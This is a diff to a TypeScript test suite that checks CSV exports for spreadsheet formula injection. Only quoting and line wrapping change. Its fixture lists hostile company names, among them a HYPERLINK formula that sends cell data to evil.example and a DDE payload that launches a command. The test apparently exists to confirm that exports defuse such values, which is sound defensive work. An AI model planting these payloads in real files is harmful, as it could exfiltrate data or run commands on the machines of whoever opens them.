@@ -15,7 +15,7 @@ let db: TestDatabase
 /** Names a register page could print, each a formula to a spreadsheet, keyed by slug. */
 const HOSTILE_NAMES: Record<string, string> = {
 	'equals-co': '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
-	'plus-co': '+1+cmd|\' /C calc\'!A0',
+	'plus-co': "+1+cmd|' /C calc'!A0",
 	'minus-co': '-2+3',
 	'at-co': '@SUM(1,2)',
 	'tab-co': '\t=1+1',
@@ -38,7 +38,8 @@ afterAll(async () => {
 })
 
 describe('spreadsheet formulas in CSV exports', () => {
-	const builder = () => createBuilder({ sql: db.sql, clock, logger: silentLogger, chunkBytes: 1 << 16, batchRows: 100, maxConcurrentBuilds: 1 })
+	const builder = () =>
+		createBuilder({ sql: db.sql, clock, logger: silentLogger, chunkBytes: 1 << 16, batchRows: 100, maxConcurrentBuilds: 1 })
 	const build = async (dataset: 'operators' | 'licences', format: 'csv' | 'json') =>
 		storedFileText(db.sql, (await builder().fileFor({ dataset, format, jurisdiction: null, status: null })).file_id)
 
